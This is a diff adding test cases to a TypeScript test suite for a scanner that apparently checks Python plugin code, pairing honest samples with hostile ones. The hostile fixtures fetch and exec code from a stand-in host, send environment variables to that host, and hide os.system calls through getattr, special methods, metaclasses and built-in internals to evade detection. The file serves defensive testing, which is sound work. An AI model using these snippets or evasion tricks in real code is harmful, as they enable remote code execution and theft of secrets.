@@ -64,6 +64,60 @@ const COPY = 'import os, types\ndef f():\n    run("a")\ndef copy(f):\n    return
 describe('the checks accept the honest use, and hold the hostile one, of', () => {
   it.each<[string, { honest: Files; hostile: readonly Files[] }]>([
     [
+      'functions in a list',
+      {
+        honest:
+          'import functools, torch\nTYPES = [getattr(torch, "float" + "16")]\nfunctools.reduce(lambda v, s: s(v), [str.strip, len], "a")\n',
+        hostile: [
+          'import functools, os\nfunctools.reduce(lambda v, s: s(v), [str.strip, getattr(os, "sys" + "tem")], "id")\n',
+          'import urllib.request\nlist(map(lambda f: f("https://e.example/a"), [urllib.request.urlopen]))\n',
+        ],
+      },
+    ],
+    [
+      'methods that a special method calls',
+      {
+        honest:
+          'import os\nclass Job:\n    def __call__(self): return self.body()\nclass Own(Job):\n    def body(self): return os.getpid()\nOwn()()\n',
+        hostile: [
+          'import os\nclass Job:\n    def __call__(self): return self.body()\nclass Own(Job):\n    def body(self): os.system("id")\nOwn()()\n',
+          'import os\nclass Job:\n    def __enter__(self): return self.body()\n    def __exit__(self, *a): pass\nclass Own(Job):\n    def body(self): os.system("id")\nwith Own(): pass\n',
+          'import os\nALL = []\nclass Meta(type):\n    def __init__(cls, *a): ALL.append(cls)\nclass Own(metaclass=Meta):\n    def go(self): os.system("id")\nALL[0]().go()\n',
+        ],
+      },
+    ],
+    [
+      'the module of a built-in function',
+      {
+        honest: 'import os\nNAME = os.getcwd.__self__.__name__\n',
+        hostile: ['import os\nos.getcwd.__self__.system("id")\n', 'def f(): ...\nf.__builtins__["exec"]("import a")\n'],
+      },
+    ],
+    [
+      'scripts that the manager of the host runs',
+      {
+        honest: {
+          '__init__.py': '',
+          'uninstall.py': 'import subprocess\nsubprocess.check_call(["attrib", "-R", "web", "/S"])\n',
+        },
+        hostile: ['uninstall.py', 'disable.py', 'enable.py'].map((name) => ({
+          '__init__.py': '',
+          [name]: 'import urllib.request\nexec(urllib.request.urlopen("https://e.example/a").read())\n',
+        })),
+      },
+    ],
+    [
+      'further libraries',
+      {
+        honest: 'from PIL import ImageMath\nimport grpc\nADD = ImageMath.lambda_eval\nCODE = grpc.StatusCode.OK\n',
+        hostile: [
+          'import os\nimport paho.mqtt.publish as publish\npublish.single("a", str(dict(os.environ)), hostname="e.example")\n',
+          'import grpc\ngrpc.insecure_channel("e.example:443")\n',
+          'from PIL import ImageMath\nImageMath.unsafe_eval("exec(\'import a\')")\n',
+        ],
+      },
+    ],
+    [
       'files that a list names, next to scripts in a hidden folder',
       {
         honest: { '__init__.py': LOAD_LISTED('"nodes"'), '.github/py/a.py': 'import os\nos.system("a")\n' },
